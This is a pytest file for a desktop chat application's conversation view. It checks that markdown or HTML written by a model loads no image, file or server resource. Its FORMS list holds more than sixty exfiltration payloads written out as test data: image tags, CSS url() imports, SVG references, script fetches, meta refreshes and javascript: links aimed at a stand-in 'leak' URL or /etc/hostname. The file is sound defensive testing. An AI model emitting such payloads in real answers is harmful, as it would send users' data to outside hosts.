"""T29: whatever a model writes, to show it reads no file, asks no server and loads no picture."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from typing import Any

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextCharFormat, QTextDocument, QTextImageFormat
from PySide6.QtWidgets import QScrollArea, QTextBrowser, QTextEdit

from desktop_app.agent.events import Answer
from desktop_app.ui.conversation.markdown import formatted
from desktop_app.ui.conversation.turn import TurnView
from desktop_app.wording import Language, Wording

SENT = "http://127.0.0.1:9/leak?all=of+it"
FILE = "file:///etc/hostname"

FORMS = [
    # Pictures
    f"![a]({SENT})",
    f"![a](<{SENT}> 'title')",
    f"![a][b]\n\n[b]: {SENT}",
    f"![b][]\n\n[b]: {SENT}",
    f"![b]\n\n[b]: {SENT}",
    f"[![a]({SENT})](https://a.example)",
    f"![a]({FILE})",
    "![a](/etc/hostname)",
    "![a](//127.0.0.1/share/a.png)",
    "![a](\\\\127.0.0.1\\share\\a.png)",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "![a](qrc:/a.png)",
    "![a](C:/Windows/win.ini)",
    f"<img src={SENT}>",
    f"<IMG SRC='{SENT}'>",
    f'<img src="x" srcset="{SENT} 2x">',
    f"<img src='{FILE}' onerror=alert(1)>",
    f"<picture><source srcset='{SENT}'><img></picture>",
    f"<input type=image src='{SENT}'>",
    f"<video poster='{SENT}'></video>",
    f"<video src='{SENT}' autoplay></video>",
    f"<audio src='{SENT}' autoplay></audio>",
    f"<embed src='{SENT}'>",
    f"<object data='{SENT}'></object>",
    f"<iframe src='{SENT}'></iframe>",
    f"<frameset><frame src='{SENT}'></frameset>",
    # Styles
    f"<style>@import url({SENT});</style>",
    f"<style>@import '{SENT}';</style>",
    f"<style>body {{ background: url({SENT}) }}</style>",
    f"<style>@font-face {{ font-family: a; src: url({SENT}) }}</style>",
    f"<link rel=stylesheet href='{SENT}'>",
    f"<link rel=prefetch href='{SENT}'>",
    f"<link rel=icon href='{SENT}'>",
    f"<p style='background: url({SENT})'>a</p>",
    f"<p style=\"background-image: url('{FILE}')\">a</p>",
    f"<ul style='list-style-image: url({SENT})'><li>a</li></ul>",
    f"<body background='{SENT}'>",
    f"<table background='{SENT}'><tr><td>a</td></tr></table>",
    f"<td background='{SENT}'>",
    # Pictures that hold others
    f"<svg><image href='{SENT}'/></svg>",
    f"<svg><use xlink:href='{SENT}#a'/></svg>",
    f"<svg xmlns:xlink='x'><a xlink:href='{SENT}'><text>a</text></a></svg>",
    f"<svg><style>@import '{SENT}'</style></svg>",
    f"<math href='{SENT}'>a</math>",
    # What runs, sends or leads away
    f"<script src='{SENT}'></script>",
    f"<script>fetch('{SENT}')</script>",
    f"<meta http-equiv=refresh content='0; url={SENT}'>",
    f"<base href='{SENT}'>![a](a.png)",
    f"<form action='{SENT}'><button>a</button></form>",
    f"<a href='{SENT}' ping='{SENT}'>a</a>",
    # Links
    f"[a]({SENT})",
    f"[a]({FILE})",
    "[a](javascript:alert(1))",
    "[a](data:text/html,<img>)",
    "[a](smb://127.0.0.1/share)",
    f"<{SENT}>",
    f"<{FILE}>",
    SENT,
    f"[a][b]\n\n[b]: {FILE}",
    # Inside other things
    f"| a |\n|---|\n| ![a]({SENT}) |",
    f"> ![a]({SENT})",
    f"- ![a]({SENT})",
    f"# ![a]({SENT})",
    f"[^1]\n\n[^1]: ![a]({SENT})",
    f"&lt;img src={SENT}&gt; &#60;img src={FILE}&#62;",
]

_LOADED = ("open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.listdir")
_heard: list[str] | None = None


def _hear(event: str, arguments: tuple[Any, ...]) -> None:
    if _heard is not None and event in _LOADED:
        _heard.append(f"{event} {arguments[:1]}")


@pytest.fixture(scope="module", autouse=True)
def _listening() -> None:
    # One hook for all: nothing takes one away again.
    sys.addaudithook(_hear)


@pytest.fixture
def heard() -> Iterator[list[str]]:
    global _heard
    _heard = []
    yield _heard
    _heard = None


@pytest.fixture
def turn(qtbot: Any) -> Iterator[TurnView]:
    pane = QScrollArea()
    pane.setWidgetResizable(True)
    turn = TurnView("?", Wording(Language.ENGLISH))
    pane.setWidget(turn)
    pane.resize(400, 600)
    qtbot.addWidget(pane)
    pane.show()
    # Whatever is loaded for the first answer is loaded now.
    turn.add_text("a")
    turn.finish(Answer("?", "a", said="a", mind="model"))
    meant = formatted("**a**", "**a**")
    assert meant is not None
    turn.answer.show_formatted(meant)
    qtbot.wait(1)
    yield turn
    # Until now something has to hold it.
    pane.close()


def test_there_are_as_many_forms_as_were_asked_for() -> None:
    assert len(set(FORMS)) == len(FORMS) >= 60


@pytest.mark.parametrize("text", FORMS)
def test_t29_nothing_is_loaded_while_an_answer_comes_and_when_it_is_there(
    qtbot: Any, turn: TurnView, heard: list[str], text: str
) -> None:
    for piece in (text[: len(text) // 2], text[len(text) // 2 :]):
        turn.add_text(piece)
        qtbot.wait(1)
    turn.finish(Answer("?", text, said=text, mind="model"))
    meant = formatted(text, text)
    if meant is not None:
        turn.answer.show_formatted(meant)
    qtbot.wait(5)
    turn.grab()
    loaded, heard[:] = list(heard), []
    assert loaded == []
    shown = turn.findChildren(QTextEdit)
    assert shown
    for view in shown:
        assert not isinstance(view, QTextBrowser)
        assert not list(_pictures(view.document()))
        for address in (SENT, FILE, "a.png", "qrc:/a.png"):
            for kind in QTextDocument.ResourceType:
                assert view.loadResource(kind.value, QUrl(address)) is None
        assert not [link for link in _links(view.document()) if not link.startswith("http")]


def _fragments(document: QTextDocument) -> Iterator[QTextCharFormat]:
    block = document.begin()
    while block.isValid():
        part = block.begin()
        while not part.atEnd():
            yield part.fragment().charFormat()
            part += 1
        block = block.next()


def _pictures(document: QTextDocument) -> Iterator[str]:
    for made in _fragments(document):
        if made.isImageFormat():
            yield QTextImageFormat(made.toImageFormat()).name()


def _links(document: QTextDocument) -> Iterator[str]:
    return (made.anchorHref() for made in _fragments(document) if made.isAnchor())
